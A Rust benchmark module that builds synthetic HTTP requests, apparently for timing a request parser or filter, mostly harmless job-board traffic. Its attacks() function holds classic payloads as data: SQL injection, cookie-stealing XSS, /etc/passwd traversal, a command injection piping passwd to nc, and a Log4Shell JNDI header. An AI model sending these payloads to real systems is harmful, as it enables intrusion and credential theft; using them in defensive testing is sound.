//! The requests that are measured.

/// One request.
#[derive(Clone)]
pub(crate) struct Request {
    pub(crate) method: &'static str,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: String,
}

/// Each case with its requests, of which the median counts.
pub(crate) fn all() -> Vec<(&'static str, Vec<Request>)> {
    vec![
        (
            "get",
            vec![get("/api/v1/jobs?page=2&size=50&sort=-created_at&state=open&q=nurse%20night")],
        ),
        ("json-1k", vec![json(17)]),
        ("json-16k", vec![json(290)]),
        ("form", vec![form("user=mara&comment=See+you+on+Monday+at+nine&city=Leeds&country=GB")]),
        ("attacks", attacks()),
        ("varied", varied()),
    ]
}

/// A request as a browser's script sends it: twelve header fields.
pub(crate) fn get(target: &str) -> Request {
    let fields = [
        ("Host", "api.example.com"),
        ("User-Agent", AGENTS[0]),
        ("Accept", "application/json, text/plain, */*"),
        ("Accept-Language", "en-GB,en;q=0.7"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", "https://app.example.com/jobs/list"),
        ("Origin", "https://app.example.com"),
        ("Authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ0c3RfMDEifQ.c2lnbmF0dXJl"),
        ("X-Request-Id", "0198c0de-7d1a-7c5e-9a51-3f2c1b7d9e10"),
        ("Cache-Control", "no-cache"),
        ("Sec-Fetch-Mode", "cors"),
        ("Cookie", "theme=dark; locale=en-GB"),
    ];
    Request {
        method: "GET",
        target: target.to_owned(),
        headers: fields.map(|(name, value)| (name.to_owned(), value.to_owned())).into(),
        body: String::new(),
    }
}

fn with_body(path: &str, kind: &str, body: String) -> Request {
    let mut request = get(path);
    request.method = "POST";
    request.headers.push(("Content-Type".to_owned(), kind.to_owned()));
    request.headers.push(("Content-Length".to_owned(), body.len().to_string()));
    request.body = body;
    request
}

/// An object with pairs of a text and a number.
pub(crate) fn json(pairs: usize) -> Request {
    let mut chance = Chance(3);
    let member = |index| format!("\"field_{index}\":\"{}\",\"n{index}\":{index}", chance.words(5));
    let members: Vec<String> = (0..pairs).map(member).collect();
    with_body("/api/v1/jobs", "application/json", format!("{{{}}}", members.join(",")))
}

pub(crate) fn form(body: &str) -> Request {
    with_body("/api/v1/notes", "application/x-www-form-urlencoded", body.to_owned())
}

fn attacks() -> Vec<Request> {
    let mut log4j = get("/");
    log4j.headers.push(("X-Api".to_owned(), "${jndi:ldap://127.0.0.1/a}".to_owned()));
    let injected = r#"{"name":"1' OR '1'='1' UNION SELECT password FROM users--"}"#.to_owned();
    vec![
        get("/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-"),
        get("/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        get("/?file=../../../../etc/passwd"),
        get("/?cmd=;cat%20/etc/passwd%7Cnc%20127.0.0.1%204444"),
        log4j,
        with_body("/api/v1/jobs", "application/json", injected),
    ]
}

/// Two hundred harmless requests, no two alike.
pub(crate) fn varied() -> Vec<Request> {
    let mut chance = Chance(11);
    (0..200).map(|index| vary(index, &mut chance)).collect()
}

fn vary(index: usize, chance: &mut Chance) -> Request {
    let number = chance.below(100_000);
    let mut request = match index % 8 {
        0 => get(&format!("/api/v1/jobs/{number}")),
        1 => get(&format!("/api/v1/jobs?page={number}&q={}", chance.words(2).replace(' ', "%20"))),
        2 => get(&format!("/static/app.{number:x}.js")),
        3 => json(3 + chance.below(12)),
        4 => form(&format!("name={}&note={}", chance.words(2), chance.words(9)).replace(' ', "+")),
        5 => {
            let title = chance.words(4);
            let text = chance.words(40);
            let body = format!(
                "{{\"title\":\"{title}\",\"rate\":{{\"amount\":\"{number}.50\",\"currency\":\"EUR\"}},\
                 \"starts_on\":\"2026-03-0{}\",\"description\":\"{text}.\",\"tags\":[\"{}\",\"{}\"]}}",
                1 + chance.below(9),
                chance.words(1),
                chance.words(1),
            );
            with_body("/api/v1/jobs", "application/json", body)
        }
        6 => get(&format!("/search?q={}&lang=en&from={number}", chance.words(5).replace(' ', "+"))),
        _ => with_body(
            "/api/v1/candidates",
            "application/json",
            format!(
                "{{\"email\":\"{}.{}@example.com\",\"phone\":\"+44 20 7946 0{}\",\"city\":\"{}\"}}",
                chance.words(1),
                chance.words(1),
                100 + chance.below(900),
                chance.words(1),
            ),
        ),
    };
    let session = format!("session={:08x}{number:08x}; locale=en-GB", chance.below(1 << 30));
    for (name, value) in &mut request.headers {
        match name.as_str() {
            "User-Agent" => *value = AGENTS[chance.below(AGENTS.len())].to_owned(),
            "Cookie" => value.clone_from(&session),
            "X-Request-Id" => *value = format!("0198c0de-7d1a-7c5e-9a51-{number:012x}"),
            _ => {}
        }
    }
    request
}

/// Chance that is the same each time.
struct Chance(u64);

impl Chance {
    fn below(&mut self, end: usize) -> usize {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % end
    }

    fn words(&mut self, count: usize) -> String {
        let words: Vec<&str> = (0..count).map(|_| WORDS[self.below(WORDS.len())]).collect();
        words.join(" ")
    }
}

const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "partner-sync/2.4 (linux; arm64)",
];

const WORDS: [&str; 48] = [
    "nurse",
    "night",
    "driver",
    "warehouse",
    "senior",
    "Monday",
    "shift",
    "care",
    "the",
    "with",
    "for",
    "and",
    "Leeds",
    "Berlin",
    "welder",
    "teacher",
    "primary",
    "school",
    "weekend",
    "urgent",
    "experience",
    "years",
    "licence",
    "valid",
    "report",
    "manager",
    "on-site",
    "remote",
    "Rust",
    "project",
    "deliver",
    "team",
    "of",
    "five",
    "please",
    "call",
    "before",
    "noon",
    "training",
    "provided",
    "uniform",
    "parking",
    "available",
    "near",
    "station",
    "hourly",
    "rate",
    "agreed",
];
